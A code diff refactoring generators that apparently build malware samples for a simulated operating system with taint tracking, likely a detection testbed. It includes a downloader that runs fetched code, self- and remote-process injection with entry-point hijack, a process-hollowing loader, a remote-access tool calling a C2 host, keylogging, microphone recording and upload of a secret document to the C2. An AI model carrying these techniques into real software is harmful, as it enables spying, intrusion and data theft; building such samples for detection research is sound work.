@@ -52,14 +52,12 @@ Result<os::Image> build_helper_program() {
 }
 
 Result<os::Image> build_inject_client(const InjectClientSpec& spec) {
-  const u32 ip = spec.c2_ip ? spec.c2_ip : kAttackerIp;
-  const u16 port = spec.c2_port ? spec.c2_port : kAttackerPort;
-  const bool self = spec.target_name.empty();
+  const bool dns = !spec.dns_name.empty();
 
   ImageBuilder ib("inject_client.exe", kUserImageBase);
   Assembler& a = ib.asm_();
   a.label("_start");
-  if (!spec.dns_name.empty()) {
+  if (dns) {
     // Stage the connection through DNS, like the Metasploit
     // reverse_tcp_dns stager.
     emit_sys(a, Sys::kNtSocket);
@@ -69,71 +67,29 @@ Result<os::Image> build_inject_client(const InjectClientSpec& spec) {
     a.mov(Reg::R12, Reg::R0);
     a.mov(Reg::R1, Reg::R10);
     a.mov(Reg::R2, Reg::R12);
-    a.movi(Reg::R3, port);
+    a.movi(Reg::R3, kAttackerPort);
     emit_sys(a, Sys::kNtConnect);
-  } else {
-    emit_connect(a, ip, port);
   }
-  emit_send_label(a, "req", 3);
+  // Download the payload into a local RW staging buffer.
+  emit_download(a, kGetRequest, 4096, /*connect=*/!dns);
 
-  // Local staging buffer (RW) + download the payload.
-  emit_alloc_self(a, spec.recv_buf, os::kProtRead | os::kProtWrite);
-  a.mov(Reg::R9, Reg::R0);
-  emit_recv(a, Reg::R9, spec.recv_buf);
-  a.mov(Reg::R8, Reg::R0);  // payload length
-
-  if (self) {
+  if (spec.target_name.empty()) {
     // Self-injection: RWX buffer in our own space, guest-code memcpy (so
     // every payload byte's taint travels with it), then call it.
-    emit_alloc_self(a, spec.recv_buf,
-                    os::kProtRead | os::kProtWrite | os::kProtExec);
+    emit_alloc_self(a, 4096, os::kProtRead | os::kProtWrite | os::kProtExec);
     a.mov(Reg::R6, Reg::R0);
-    a.movi(Reg::R4, 0);
-    a.label("cp_loop");
-    a.cmp(Reg::R4, Reg::R8);
-    a.bgeu("cp_done");
-    a.add(Reg::R5, Reg::R9, Reg::R4);
-    a.ld8(Reg::R7, Reg::R5, 0);
-    a.add(Reg::R5, Reg::R6, Reg::R4);
-    a.st8(Reg::R5, 0, Reg::R7);
-    a.addi(Reg::R4, Reg::R4, 1);
-    a.jmp("cp_loop");
-    a.label("cp_done");
+    emit_copy_loop(a);
     a.callr(Reg::R6);  // payload should end with NtExit or ret
-    emit_exit(a, 0);
   } else {
     // Remote injection: find the victim, carve an RWX region in it, write
     // the payload across the process boundary, hijack its entry point.
-    a.movi_label(Reg::R1, "target");
-    emit_sys(a, Sys::kNtOpenProcessByName);
-    a.mov(Reg::R7, Reg::R0);
-    a.mov(Reg::R1, Reg::R7);
-    a.movi(Reg::R2, spec.recv_buf);
-    a.movi(Reg::R3, os::kProtRead | os::kProtWrite | os::kProtExec);
-    emit_sys(a, Sys::kNtAllocateVirtualMemory);
-    a.mov(Reg::R6, Reg::R0);
-    a.mov(Reg::R1, Reg::R7);
-    a.mov(Reg::R2, Reg::R6);
-    a.mov(Reg::R3, Reg::R9);
-    a.mov(Reg::R4, Reg::R8);
-    emit_sys(a, Sys::kNtWriteVirtualMemory);
-    a.mov(Reg::R1, Reg::R7);
-    a.mov(Reg::R2, Reg::R6);
-    emit_sys(a, Sys::kNtSetEntryPoint);
-    emit_exit(a, 0);
+    emit_remote_inject(a, /*suspend=*/false, /*pc_relative=*/false);
   }
+  emit_exit(a, 0);
 
-  a.align(8);
-  a.label("req");
-  a.data_str("GET", false);
-  a.align(8);
-  a.label("target");
-  a.data_str(spec.target_name);
-  if (!spec.dns_name.empty()) {
-    a.align(8);
-    a.label("c2name");
-    a.data_str(spec.dns_name);
-  }
+  emit_request_data(a);
+  emit_data_str(a, "target", spec.target_name);
+  if (dns) emit_data_str(a, "c2name", spec.dns_name);
   return ib.build();
 }
 
@@ -172,9 +128,7 @@ Result<os::Image> build_hollow_loader(const Bytes& payload,
   emit_sys(a, Sys::kNtResumeProcess);
   emit_exit(a, 0);
 
-  a.align(8);
-  a.label("victim");
-  a.data_str(victim_path);
+  emit_data_str(a, "victim", victim_path);
   a.align(8);
   a.label("payload");
   a.data(payload);
@@ -182,13 +136,10 @@ Result<os::Image> build_hollow_loader(const Bytes& payload,
 }
 
 Result<os::Image> build_rat_program(const RatSpec& spec) {
-  const u32 ip = spec.c2_ip ? spec.c2_ip : kAttackerIp;
-  const u16 port = spec.c2_port ? spec.c2_port : kAttackerPort;
-
   ImageBuilder ib(spec.name, kUserImageBase);
   Assembler& a = ib.asm_();
   a.label("_start");
-  emit_connect(a, ip, port);
+  emit_connect(a, kAttackerIp, kAttackerPort);
   emit_send_label(a, "ready", 5);
   emit_alloc_self(a, 4096, os::kProtRead | os::kProtWrite);
   a.mov(Reg::R9, Reg::R0);
@@ -271,65 +222,32 @@ Result<os::Image> build_rat_program(const RatSpec& spec) {
   a.label("quit");
   emit_exit(a, 0);
 
-  a.align(8);
-  a.label("ready");
-  a.data_str("READY", false);
-  a.align(8);
-  a.label("done");
-  a.data_str("done", false);
-  a.align(8);
-  a.label("target");
-  a.data_str(spec.inject_target);
-  a.align(8);
-  a.label("helper");
-  a.data_str(paths::kHelper);
-  a.align(8);
-  a.label("secret");
-  a.data_str(paths::kSecretDoc);
-  a.align(8);
-  a.label("drop");
-  a.data_str("C:/Temp/drop.bin");
+  emit_data_str(a, "ready", "READY", /*nul_terminate=*/false);
+  emit_data_str(a, "done", "done", /*nul_terminate=*/false);
+  emit_data_str(a, "target", "explorer.exe");
+  emit_data_str(a, "helper", paths::kHelper);
+  emit_data_str(a, "secret", paths::kSecretDoc);
+  emit_data_str(a, "drop", "C:/Temp/drop.bin");
   a.align(8);
   a.label("iobuf");
   a.zeros(64);
   return ib.build();
 }
 
-Result<os::Image> build_jit_host(const std::string& name, u32 c2_ip,
-                                 u16 c2_port) {
-  const u32 ip = c2_ip ? c2_ip : kAttackerIp;
-  const u16 port = c2_port ? c2_port : kAttackerPort;
-
+Result<os::Image> build_jit_host(const std::string& name) {
   ImageBuilder ib(name, kUserImageBase);
   Assembler& a = ib.asm_();
   a.label("_start");
-  emit_connect(a, ip, port);
-  emit_send_label(a, "req", 7);
-  emit_alloc_self(a, 4096, os::kProtRead | os::kProtWrite);
-  a.mov(Reg::R9, Reg::R0);
-  emit_recv(a, Reg::R9, 4096);
-  a.mov(Reg::R8, Reg::R0);
+  emit_download(a, "GETCODE");
   // "JIT-compile": emit the downloaded code into an executable buffer,
   // byte by byte with guest instructions so taint travels with the code.
   emit_alloc_self(a, 4096, os::kProtRead | os::kProtWrite | os::kProtExec);
   a.mov(Reg::R6, Reg::R0);
-  a.movi(Reg::R4, 0);
-  a.label("emit_loop");
-  a.cmp(Reg::R4, Reg::R8);
-  a.bgeu("emit_done");
-  a.add(Reg::R5, Reg::R9, Reg::R4);
-  a.ld8(Reg::R7, Reg::R5, 0);
-  a.add(Reg::R5, Reg::R6, Reg::R4);
-  a.st8(Reg::R5, 0, Reg::R7);
-  a.addi(Reg::R4, Reg::R4, 1);
-  a.jmp("emit_loop");
-  a.label("emit_done");
+  emit_copy_loop(a);
   a.callr(Reg::R6);  // run the compiled unit (payload ends with ret)
   emit_exit(a, 0);
 
-  a.align(8);
-  a.label("req");
-  a.data_str("GETCODE", false);
+  emit_request_data(a, "GETCODE");
   return ib.build();
 }
 
@@ -411,14 +329,19 @@ Result<os::Image> build_behavior_program(
         a.mov(Reg::R1, Reg::R0);
         emit_sys(a, Sys::kNtWaitProcess);
         break;
-      case Behavior::kAudioRecord: {
-        a.movi_label(Reg::R1, "audiolog");
+      case Behavior::kAudioRecord:
+      case Behavior::kKeylogger: {
+        // Record the device's chunks into a log file.
+        u32 dev = 0;
+        const u32 chunks = behavior_device_chunks(b, &dev);
+        const bool audio = b == Behavior::kAudioRecord;
+        a.movi_label(Reg::R1, audio ? "audiolog" : "keyslog");
         emit_sys(a, Sys::kNtCreateFile);
         a.mov(Reg::R12, Reg::R0);
-        for (int i = 0; i < 2; ++i) {
-          a.movi(Reg::R1, static_cast<u32>(os::DeviceId::kMicrophone));
+        for (u32 i = 0; i < chunks; ++i) {
+          a.movi(Reg::R1, dev);
           a.movi_label(Reg::R2, "iobuf");
-          a.movi(Reg::R3, 32);
+          a.movi(Reg::R3, audio ? 32 : 16);
           emit_sys(a, Sys::kNtReadDevice);
           a.mov(Reg::R7, Reg::R0);
           a.mov(Reg::R1, Reg::R12);
@@ -428,8 +351,10 @@ Result<os::Image> build_behavior_program(
         }
         break;
       }
-      case Behavior::kFileTransfer: {
-        a.movi_label(Reg::R1, "report");
+      case Behavior::kFileTransfer:
+      case Behavior::kUpload: {
+        // Send the first 64 bytes of a document to the C2.
+        a.movi_label(Reg::R1, b == Behavior::kUpload ? "secret" : "report");
         emit_sys(a, Sys::kNtOpenFile);
         a.mov(Reg::R12, Reg::R0);
         a.mov(Reg::R1, Reg::R12);
@@ -441,23 +366,6 @@ Result<os::Image> build_behavior_program(
         a.movi_label(Reg::R2, "iobuf");
         a.mov(Reg::R3, Reg::R7);
         emit_sys(a, Sys::kNtSend);
-        break;
-      }
-      case Behavior::kKeylogger: {
-        a.movi_label(Reg::R1, "keyslog");
-        emit_sys(a, Sys::kNtCreateFile);
-        a.mov(Reg::R12, Reg::R0);
-        for (int i = 0; i < 2; ++i) {
-          a.movi(Reg::R1, static_cast<u32>(os::DeviceId::kKeyboard));
-          a.movi_label(Reg::R2, "iobuf");
-          a.movi(Reg::R3, 16);
-          emit_sys(a, Sys::kNtReadDevice);
-          a.mov(Reg::R7, Reg::R0);
-          a.mov(Reg::R1, Reg::R12);
-          a.movi_label(Reg::R2, "iobuf");
-          a.mov(Reg::R3, Reg::R7);
-          emit_sys(a, Sys::kNtWriteFile);
-        }
         break;
       }
       case Behavior::kRemoteDesktop: {
@@ -472,21 +380,6 @@ Result<os::Image> build_behavior_program(
           a.mov(Reg::R3, Reg::R7);
           emit_sys(a, Sys::kNtSend);
         }
-        break;
-      }
-      case Behavior::kUpload: {
-        a.movi_label(Reg::R1, "secret");
-        emit_sys(a, Sys::kNtOpenFile);
-        a.mov(Reg::R12, Reg::R0);
-        a.mov(Reg::R1, Reg::R12);
-        a.movi_label(Reg::R2, "iobuf");
-        a.movi(Reg::R3, 64);
-        emit_sys(a, Sys::kNtReadFile);
-        a.mov(Reg::R7, Reg::R0);
-        a.mov(Reg::R1, Reg::R10);
-        a.movi_label(Reg::R2, "iobuf");
-        a.mov(Reg::R3, Reg::R7);
-        emit_sys(a, Sys::kNtSend);
         break;
       }
       case Behavior::kDownload: {
@@ -519,33 +412,15 @@ Result<os::Image> build_behavior_program(
   }
   emit_exit(a, 0);
 
-  a.align(8);
-  a.label("helper");
-  a.data_str(paths::kHelper);
-  a.align(8);
-  a.label("report");
-  a.data_str(paths::kReportDoc);
-  a.align(8);
-  a.label("secret");
-  a.data_str(paths::kSecretDoc);
-  a.align(8);
-  a.label("audiolog");
-  a.data_str("C:/Temp/audio.dat");
-  a.align(8);
-  a.label("keyslog");
-  a.data_str("C:/Temp/keys.log");
-  a.align(8);
-  a.label("dlfile");
-  a.data_str("C:/Temp/download.bin");
-  a.align(8);
-  a.label("gimme");
-  a.data_str("GIMME", false);
-  a.align(8);
-  a.label("shellrdy");
-  a.data_str("SHELL-RDY", false);
-  a.align(8);
-  a.label("done");
-  a.data_str("done", false);
+  emit_data_str(a, "helper", paths::kHelper);
+  emit_data_str(a, "report", paths::kReportDoc);
+  emit_data_str(a, "secret", paths::kSecretDoc);
+  emit_data_str(a, "audiolog", "C:/Temp/audio.dat");
+  emit_data_str(a, "keyslog", "C:/Temp/keys.log");
+  emit_data_str(a, "dlfile", "C:/Temp/download.bin");
+  emit_data_str(a, "gimme", "GIMME", /*nul_terminate=*/false);
+  emit_data_str(a, "shellrdy", "SHELL-RDY", /*nul_terminate=*/false);
+  emit_data_str(a, "done", "done", /*nul_terminate=*/false);
   a.align(8);
   a.label("iobuf");
   a.zeros(128);
